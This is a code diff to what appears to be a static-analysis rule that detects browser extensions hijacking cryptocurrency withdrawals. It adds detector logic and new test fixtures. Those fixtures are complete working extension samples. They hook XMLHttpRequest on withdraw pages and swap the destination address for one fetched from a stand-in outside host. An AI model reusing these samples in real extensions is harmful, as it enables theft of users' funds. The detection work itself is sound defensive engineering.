@@ -5,6 +5,7 @@ import {
   constant,
   Op,
   pattern,
+  pairsOf,
   propertyOf,
   show,
   writesOf,
@@ -160,6 +161,28 @@ export const walletRequestsChanged = defineRule({
             'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); b.address = book[b.coin]; body = JSON.stringify(b); } return send.call(this, body); };',
         },
       },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
+          'background.js':
+            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
+          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
+          'page.js':
+            'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); body = JSON.stringify({ ...b, address: book[b.coin] }); } return send.call(this, body); };',
+        },
+      },
+      {
+        files: {
+          'manifest.json':
+            '{"manifest_version": 3, "name": "Example", "version": "1.0", "background": {"service_worker": "background.js"}, "content_scripts": [{"matches": ["https://www.coins.example/*"], "js": ["page.js"], "world": "MAIN"}, {"matches": ["https://www.coins.example/*"], "js": ["bridge.js"]}]}',
+          'background.js':
+            'chrome.runtime.onMessage.addListener((m, s, reply) => { fetch("https://book.example/now").then((r) => r.json()).then(reply); return true; });',
+          'bridge.js': 'chrome.runtime.sendMessage("book", (book) => window.postMessage({ book }, location.origin));',
+          'page.js':
+            'let book = {}; addEventListener("message", (e) => { if (e.data.book) book = e.data.book; }); const send = XMLHttpRequest.prototype.send; XMLHttpRequest.prototype.send = function (body) { if (/withdraw/.test(location.pathname)) { const b = JSON.parse(body); b.payment.address = book[b.coin]; body = JSON.stringify(b); } return send.call(this, body); };',
+        },
+      },
     ],
     good: [
       // What its server says of a payment is shown, not sent.
@@ -248,8 +271,24 @@ function* receivers(script: ScriptFacts, names: readonly string[] = MAYBE_RECEIV
   }
 }
 
-/** Receivers that get into what was read of a text, as what pages ask exchanges for with a request is. */
-const receiversInText = (script: ScriptFacts): number[] =>
-  first(writesOf(script, ...MAYBE_RECEIVERS), 60)
-    .filter(({ object }) => apiPath(script, object) === 'JSON.parse()')
-    .map(({ value }) => value);
+const isRead = (script: ScriptFacts, value: number): boolean =>
+  /^JSON\.parse\(\)(?:\.|$)/.test(apiPath(script, value) ?? '');
+
+/**
+ * Receivers that get into what was read of a text, as what pages ask exchanges for with a request is: by a write, or in a
+ * copy of it, `{ ...read, address }`.
+ */
+const receiversInText = (script: ScriptFacts): number[] => [
+  ...first(writesOf(script, ...MAYBE_RECEIVERS), 60)
+    .filter(({ object }) => isRead(script, object))
+    .map(({ value }) => value),
+  ...[...valuesOf(script, Op.object).subarray(0, 2000)]
+    .filter((object) =>
+      pairsOf(script, object).some(
+        (value, at, pairs) => at % 2 === 1 && (pairs[at - 1] ?? 0) < 0 && isRead(script, value),
+      ),
+    )
+    .flatMap((object) =>
+      MAYBE_RECEIVERS.map((name) => propertyOf(script, object, name)).filter((value) => value !== 0),
+    ),
+];
